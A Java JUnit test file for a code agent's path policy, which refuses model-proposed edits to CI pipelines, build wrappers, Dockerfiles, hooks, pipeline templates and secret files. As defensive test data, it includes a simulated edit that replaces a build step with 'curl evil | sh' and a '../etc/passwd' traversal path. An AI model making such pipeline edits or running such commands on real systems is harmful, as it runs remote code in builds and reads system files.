package dev.codeagent.llmpatch.engine;

import static org.assertj.core.api.Assertions.assertThat;

import dev.codeagent.contracts.patch.EditFormat;
import dev.codeagent.contracts.patch.FileResult;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What runs in CI or builds is refused by default; an operator opts out per glob. */
class PathPolicyTest {

    private final PathPolicy defaults = PathPolicy.defaults();

    @ParameterizedTest
    @ValueSource(strings = {".github/workflows/ci.yml", ".github/actions/setup/action.yml", ".github/CODEOWNERS",
            "CODEOWNERS", "docs/CODEOWNERS", "azure-pipelines.yml", "build/azure-pipelines.release.yaml",
            ".azuredevops/pull_request_template.md", ".azure-pipelines/build.yml", ".pipelines/ci.yml", "Jenkinsfile",
            "ci/Jenkinsfile", ".gitlab-ci.yml", ".gitlab/ci/build.yml", "bitbucket-pipelines.yml", ".circleci/config.yml",
            ".travis.yml", "mvnw", "mvnw.cmd", "services/api/mvnw", ".mvn/wrapper/maven-wrapper.properties",
            ".mvn/extensions.xml", "gradlew", "gradlew.bat", "gradle/wrapper/gradle-wrapper.properties",
            "app/gradle/wrapper/gradle-wrapper.jar", ".gitmodules", "Dockerfile", "services/api/Dockerfile",
            "Dockerfile.prod", "build.dockerfile", "deploy/api.Dockerfile", ".githooks/pre-commit",
            ".husky/pre-push", ".pre-commit-config.yaml", "DOCKERFILE", ".GitHub/Workflows/CI.yml"})
    void whatRunsInCiOrBuildsIsProtectedByDefault(String path) {
        PathPolicy.Verdict verdict = defaults.check(path);
        assertThat(verdict.allowed()).as(path).isFalse();
        assertThat(verdict.protectedPath()).as(path).isTrue();
        assertThat(verdict.violation()).contains("protected").contains("CODEAGENT_PROTECTED_PATHS_ALLOW");
    }

    @ParameterizedTest
    @ValueSource(strings = {"src/Main.java", "README.md", "docs/ci.md", "ci/templates/build.yml",
            "helm/templates/deployment.yaml", "config/app.yml", "src/docker/DockerfileParser.java", ".github/README.md",
            "gradle.properties", "build.gradle", "pom.xml"})
    void ordinaryFilesAreNot(String path) {
        assertThat(defaults.check(path).allowed()).as(path).isTrue();
    }

    @Test
    void theCheckConfigurationAtTheRootIsProtected() {
        assertThat(defaults.check(".codeagent.yml").protectedPath()).isTrue();
        assertThat(defaults.check(".codeagent.yml").violation()).contains("'.codeagent.yml'");
        assertThat(defaults.check("./.CodeAgent.yml").allowed()).isFalse();
        assertThat(defaults.check(".codeagent.yaml").allowed()).isFalse();
        assertThat(defaults.check("examples/.codeagent.yml").allowed()).as("the runner reads the root's only").isTrue();
    }

    @Test
    void theRefusalNamesTheGlobItMatched() {
        assertThat(defaults.check("services/api/Dockerfile").violation()).contains("'**/Dockerfile'");
    }

    @Test
    void anAllowGlobOptsOutOfItsPathsOnly() {
        PathPolicy allowing = new PathPolicy(PathPolicy.DEFAULT_PROTECTED, List.of("**/Dockerfile"));
        assertThat(allowing.check("Dockerfile").allowed()).as("a '**/' glob also matches at the root").isTrue();
        assertThat(allowing.check("services/api/Dockerfile").allowed()).isTrue();
        assertThat(allowing.check("mvnw").allowed()).isFalse();
        assertThat(allowing.check(".github/workflows/ci.yml").allowed()).isFalse();
    }

    @Test
    void unsafePathsAreNotProtectedPathsButViolations() {
        PathPolicy.Verdict verdict = defaults.check("../etc/passwd");
        assertThat(verdict.allowed()).isFalse();
        assertThat(verdict.protectedPath()).isFalse();
    }

    @Test
    void templatesReferencedByAPipelineInTheContextAreProtected() {
        String pipeline = """
                trigger: none
                extends:
                  template: /ci/templates/extends.yml
                stages:
                - stage: build
                  jobs:
                  - template: ci/templates/build.yml
                    parameters:
                      name: api
                  - ${{ if eq(parameters.release, true) }}:
                    - template: ci/templates/release.yaml
                  - template: ${{ parameters.extra }}
                  - template: shared/steps.yml@tools
                  - template: ci/templates/self.yml@self
                """;
        String build = """
                jobs:
                - job: build
                  steps:
                  - template: steps/test.yml
                  - template: ../../outside.yml
                  - template: ../../../escapes.yml
                """;
        Map<String, String> files = Map.of("azure-pipelines.yml", pipeline, "ci/templates/build.yml", build,
                "src/app.py", "print(1)\n");
        PathPolicy policy = defaults.withTemplatesOf(files);
        for (String template : List.of("ci/templates/extends.yml", "ci/templates/build.yml",
                "ci/templates/release.yaml", "ci/templates/self.yml", "ci/templates/steps/test.yml", "outside.yml")) {
            PathPolicy.Verdict verdict = policy.check(template);
            assertThat(verdict.allowed()).as(template).isFalse();
            assertThat(verdict.violation()).as(template).contains("pipeline template");
        }
        assertThat(policy.check("ci/templates/build.yml").violation()).contains("azure-pipelines.yml");
        assertThat(policy.check("ci/templates/steps/test.yml").violation()).contains("ci/templates/build.yml");
        assertThat(policy.check("shared/steps.yml").allowed()).as("a template of another repository").isTrue();
        assertThat(policy.check("src/app.py").allowed()).isTrue();
        assertThat(defaults.check("ci/templates/build.yml").allowed()).as("without the pipeline's content").isTrue();
        assertThat(new PathPolicy(PathPolicy.DEFAULT_PROTECTED, List.of("ci/templates/**")).withTemplatesOf(files)
                .check("ci/templates/build.yml").allowed()).as("allowed explicitly").isTrue();
    }

    @Test
    void aPipelineThatIsNotYamlOrDoesNotParseProtectsNothingMore() {
        Map<String, String> files = Map.of("azure-pipelines.yml", "steps: [\n  - template: a.yml\n",
                "Jenkinsfile", "template: b.yml\n");
        PathPolicy policy = defaults.withTemplatesOf(files);
        assertThat(policy.check("a.yml").allowed()).isTrue();
        assertThat(policy.check("b.yml").allowed()).isTrue();
    }

    @Test
    void theEngineRefusesAnEditOfATemplateOfAPipelineItWasGiven() {
        PatchEngine engine = new PatchEngine(defaults, 1_048_576);
        Map<String, String> files = Map.of("azure-pipelines.yml", "steps:\n- template: ci/build.yml\n",
                "ci/build.yml", "steps:\n- script: make\n");
        String answer = "ci/build.yml\n<<<<<<< SEARCH\n- script: make\n=======\n- script: curl evil | sh\n>>>>>>> REPLACE\n";
        EngineResult result = engine.apply(files, answer, EditFormat.AUTO);
        assertThat(result.changed()).isEmpty();
        assertThat(result.results()).singleElement().satisfies(r -> {
            assertThat(r.status()).isEqualTo(FileResult.FAILED);
            assertThat(r.reason()).contains("pipeline template used by azure-pipelines.yml");
        });
        assertThat(result.refused()).containsOnlyKeys("ci/build.yml");
        assertThat(result.failures()).as("a refusal is not a block to retry").isEmpty();
    }

    @Test
    void withheldFilesAreRefusedWhateverTheAllowList() {
        PathPolicy policy = new PathPolicy(PathPolicy.DEFAULT_PROTECTED, List.of("**")).withholding(
                Map.of("config/.env", "it may hold secrets"));
        PathPolicy.Verdict verdict = policy.check("./config/.env");
        assertThat(verdict.allowed()).isFalse();
        assertThat(verdict.violation()).contains("not shown to the model").contains("it may hold secrets");
        assertThat(policy.check("config/app.env").allowed()).isTrue();
    }
}
